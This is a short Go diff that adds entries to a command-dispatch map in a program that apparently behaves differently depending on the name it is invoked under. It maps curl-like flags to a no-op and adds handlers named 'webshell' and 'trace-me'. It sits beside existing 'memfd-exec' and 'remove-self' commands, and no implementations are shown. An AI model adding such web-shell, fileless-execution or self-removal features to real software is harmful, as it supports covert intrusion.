@@ -26,9 +26,16 @@ var commands = map[string]func(args []string) error{
 	"remove-self": removeSelf,
 
 	// What the program is asked when it goes by another name.
-	"-o":    nothing,
-	"-p22":  nothing,
-	"synth": nothing,
+	"-o":         nothing,
+	"-p22":       nothing,
+	"-F":         nothing,
+	"-fsSL":      nothing,
+	"filesystem": nothing,
+	"webshell":   webshell,
+	"date-page":  datePage,
+	"trace-me":   traceMe,
+	"debug":      debug,
+	"synth":      nothing,
 
 	"memfd-exec": memfdExec,
 	"memfd-map":  memfdMap,
